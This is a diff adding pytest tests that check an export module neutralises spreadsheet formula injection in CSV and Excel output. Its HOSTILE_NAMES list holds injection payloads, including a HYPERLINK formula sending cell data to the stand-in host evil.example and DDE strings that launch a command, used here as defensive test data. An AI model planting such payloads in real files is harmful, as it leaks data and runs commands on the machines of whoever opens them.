@@ -110,3 +110,70 @@ def test_write_table_by_suffix(tmp_path):
     with pytest.raises(ValueError, match=r"\.pdf"):
         export.write_table(frame, tmp_path / "结果.pdf")
     assert not (tmp_path / "结果.pdf").exists()
+
+
+# --- formula injection (issue 10, finding 3) ---------------------------------------------------
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1,2)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def hostile_frame() -> pd.DataFrame:
+    names = [*HOSTILE_NAMES, "http://evil.example/", "永康甲有限公司", "-12.5", None]
+    return pd.DataFrame(
+        {
+            "name": pd.array(names, dtype="str"),
+            "note": pd.Series(names, dtype=object),
+            "total": np.arange(len(names), dtype=float) - 3,
+        }
+    )
+
+
+@pytest.mark.parametrize("name", HOSTILE_NAMES)
+def test_neutralise_prefixes_formula_starts_with_an_apostrophe(name):
+    assert export.neutralise(name) == "'" + name
+
+
+@pytest.mark.parametrize("value", ["永康甲有限公司", "-12.5", "+3%", "1,234.5", "", None, 7, -3.0])
+def test_neutralise_leaves_plain_text_and_numbers(value):
+    assert export.neutralise(value) == value
+
+
+def test_excel_export_has_no_formulas_or_links():
+    data = export.to_excel_bytes(hostile_frame(), header=lambda c: c)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+        names = archive.namelist()
+    assert "<f>" not in sheet_xml, "a live formula was written"
+    assert "hyperlink" not in sheet_xml.lower() and not any("rels/sheet1" in n for n in names)
+    sheet = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
+    cells = [row[0] for row in sheet[1:]]
+    assert cells[: len(HOSTILE_NAMES)] == ["'" + n for n in HOSTILE_NAMES]
+    assert cells[len(HOSTILE_NAMES) :] == ["http://evil.example/", "永康甲有限公司", "-12.5", ""]
+    assert [row[1] for row in sheet[1:]] == cells  # object columns too
+    assert sheet[1][2] == -3.0  # numbers stay numbers
+
+
+def test_csv_export_neutralises_every_text_cell():
+    data = export.to_csv_bytes(hostile_frame())
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    for row, name in zip(rows[1:], HOSTILE_NAMES, strict=False):
+        assert row[0] == row[1] == "'" + name
+    assert rows[-2][0] == "-12.5" and float(rows[-2][2]) == 6.0
+
+
+def test_headers_that_look_like_formulas_are_neutralised_too():
+    frame = pd.DataFrame({"=1+1": ["a"]})
+    text = export.to_csv_bytes(frame).decode("utf-8-sig")
+    assert next(csv.reader(io.StringIO(text))) == ["'=1+1"]
+    sheet = pd.read_excel(
+        io.BytesIO(export.to_excel_bytes(frame, header=lambda c: c)), engine="calamine"
+    )
+    assert list(sheet.columns) == ["'=1+1"]
